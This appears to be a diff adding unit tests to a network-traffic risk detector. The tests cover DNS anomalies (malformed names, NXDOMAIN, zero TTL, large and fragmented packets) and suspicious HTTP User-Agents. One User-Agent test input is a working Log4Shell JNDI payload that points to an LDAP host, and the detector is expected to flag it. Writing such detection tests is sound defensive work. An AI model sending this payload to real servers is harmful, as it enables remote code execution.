@@ -244,3 +244,60 @@ test('ICMP: entropy of the first message as nDPI reads it; invalid type and bad 
   assert.equal(g.risks?.find((r) => r.id === RISK.MALFORMED_PACKET)?.info, 'Invalid type (60)/code(0)');
   assert.equal(g.risks?.length, 2);
 });
+
+test('DNS messages: invalid characters, a cut-short question, zero TTL, error code, large response, fragments', async () => {
+  const { dnsMessage } = await import('../../lib/risk/dns-packet.js');
+  const name = (labels: (string | number[])[]) => {
+    const out: number[] = [];
+    for (const l of labels) {
+      const bytes = typeof l === 'string' ? [...Buffer.from(l)] : l;
+      out.push(bytes.length, ...bytes);
+    }
+    out.push(0);
+    return out;
+  };
+  const header = (id: number, flags: number, qd: number, an: number, ns = 0, ar = 0) => [id >> 8, id & 255, flags >> 8, flags & 255, 0, qd, 0, an, 0, ns, 0, ar];
+  const q = [...header(1, 0x0100, 1, 0), ...name(['www', [0x65, 0x01, 0x78], 'com']), 0, 1, 0, 1];
+  const f = new Flow(1);
+  f.proto = 17;
+  const st = { messages: 0, valid: false, done: false };
+  dnsMessage(f, st, false, 40000, 53, Uint8Array.from(q), 0, q.length, false);
+  assert.deepEqual(f.risks, [{ id: RISK.INVALID_CHARACTERS, info: 'Invalid chars detected in domain name' }]);
+  // the response: NXDOMAIN, one A record with TTL 0, padded past 512 bytes, in IP fragments
+  const ans = [0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4, 10, 0, 0, 1];
+  const r = [...header(1, 0x8183, 1, 1), ...q.slice(12), ...ans];
+  const big = Uint8Array.from([...r, ...new Array(600 - r.length).fill(0)]);
+  dnsMessage(f, st, false, 53, 40000, big, 0, big.length, true);
+  const info = (id: number) => f.risks?.find((x) => x.id === id)?.info;
+  assert.equal(info(RISK.ERROR_CODE_DETECTED), 'DNS Error Code NXDOMAIN');
+  assert.equal(info(RISK.MINOR_ISSUES), 'DNS Record with zero TTL');
+  assert.equal(info(RISK.DNS_LARGE_PACKET), '600 Bytes DNS Packet');
+  assert.ok(hasRisk(f, RISK.DNS_FRAGMENTED));
+  assert.equal(st.done, true, 'a response with records ends the look');
+  // a question cut short is malformed
+  const g = new Flow(2);
+  g.proto = 17;
+  const cut = Uint8Array.from([...header(2, 0x0100, 1, 0), 7, 0x61, 0x62]);
+  dnsMessage(g, { messages: 0, valid: false, done: false }, false, 40001, 53, cut, 0, cut.length, false);
+  assert.equal(g.risks?.find((x) => x.id === RISK.MALFORMED_PACKET)?.info, 'Invalid DNS Query Lenght');
+  // not DNS at all (a first message that is no DNS header): nothing
+  const h = new Flow(3);
+  const junk = Uint8Array.from(new Array(40).fill(0xff));
+  dnsMessage(h, { messages: 0, valid: false, done: false }, false, 40002, 53, junk, 0, junk.length, false);
+  assert.equal(h.risks, null);
+});
+
+test('HTTP agents: missing, without a letter or digit, carrying a JNDI lookup', () => {
+  const mk = (ua: string | undefined) => {
+    const f = tcpFlow(0x1a, 0x1a, 300);
+    f.l7Master = 7;
+    f.meta.http = { method: 'GET', url: '/', host: 'example.org', userAgent: ua };
+    computeRisks(f);
+    return (f.risks ?? []).map((r) => `${r.id}:${r.info}`);
+  };
+  assert.deepEqual(mk(undefined), [`${RISK.HTTP_SUSPICIOUS_USER_AGENT}:Empty or missing User-Agent`]);
+  assert.deepEqual(mk('**'), [`${RISK.HTTP_SUSPICIOUS_USER_AGENT}:Suspicious Agent`]);
+  assert.deepEqual(mk('/3.9.4.0'), []);
+  assert.deepEqual(mk('${jndi:ldap://172.16.238.11:1389/a}'), [`${RISK.POSSIBLE_EXPLOIT}:Suspicious Log4J`]);
+  assert.deepEqual(mk('Mozilla/5.0'), []);
+});
